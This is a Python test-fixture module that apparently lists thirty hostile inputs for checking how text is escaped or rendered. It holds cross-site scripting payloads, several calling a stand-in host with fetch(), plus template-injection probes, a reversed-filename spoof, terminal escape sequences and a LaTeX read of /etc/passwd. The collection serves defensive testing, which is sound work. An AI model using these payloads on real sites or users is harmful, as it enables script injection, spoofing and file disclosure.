"""Thirty texts that try to be more than text."""

from __future__ import annotations

SINK = "http://whynet-probe.example/"
"""Where a payload that runs or loads anything would ask."""

DEED = f"fetch('{SINK}ran');alert(1);document.title='owned!'"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{DEED}</script>",
    "image": f'<img src=x onerror="{DEED}">',
    "remote image": f'"><img src="{SINK}img">',
    "closed attribute": f'" onmouseover="{DEED}" autofocus onfocus="{DEED}" x=\'',
    "closed script": f"</script><script>{DEED}</script>",
    "closed style": f"</style></title></textarea><svg onload={DEED.replace(' ', '')}>",
    "svg script": f"<svg><script href='{SINK}s'></script><script>{DEED}</script></svg>",
    "svg link": f'<svg><a xlink:href="javascript:{DEED}"><text>x</text></a></svg>',
    "svg use": f'<svg><use href="{SINK}u#x"/><image href="{SINK}i"/></svg>',
    "frame": f'<iframe src="{SINK}f" srcdoc="<script>parent.{DEED}</script>"></iframe>',
    "object": f'<object data="{SINK}o"></object><embed src="{SINK}e">',
    "style sheet": f"<link rel=stylesheet href={SINK}css><style>@import '{SINK}i';</style>",
    "style": f"x{{}}body{{background:url({SINK}bg)}}",
    "meta": f'<meta http-equiv=refresh content="0;url={SINK}m"><base href="{SINK}">',
    "form": f'<form action="{SINK}form"><button autofocus formaction="{SINK}b">x</form>',
    "javascript link": f"javascript:{DEED}",
    "markdown link": f"[x](javascript:{DEED}) ![x]({SINK}md) <{SINK}a>",
    "data link": f"data:text/html,<script>{DEED}</script>",
    "template": "{{7*7}}{% import 'os' as os %}{{''.__class__.__mro__}}{# #}",
    "other templates": "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('alert(1)')()}}",
    "entities": "&lt;script&gt;&#60;img src=x&#62;&amp;quot;",
    "comment": f"--><!--<img src=x onerror={DEED.replace(' ', '')}>",
    "section": f"]]><![CDATA[<script>{DEED}</script>]]>",
    "encoded": f"%3Cscript%3E{DEED}%3C/script%3E \\u003cscript\\u003e \\x3cimg\\x3e",
    "full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "direction": "invoice\u202egpj.exe\u2066\u200f\u061c",
    "control": "nul\x00 bell\x07 esc\x1b[31m\x1b]0;title\x07 back\x08 line\u2028end\x9b2J\x7f",
    "mathematics": "$\\frac$ $x_{y$ \\href{x}{y} $$ \\input{/etc/passwd}",
    "marks": "`<b>`**<i>bold</i>** _x_ ``` |a|b| # h",
    "ten megabytes": "W" * 10_000_000,
}
"""What it is to the text."""
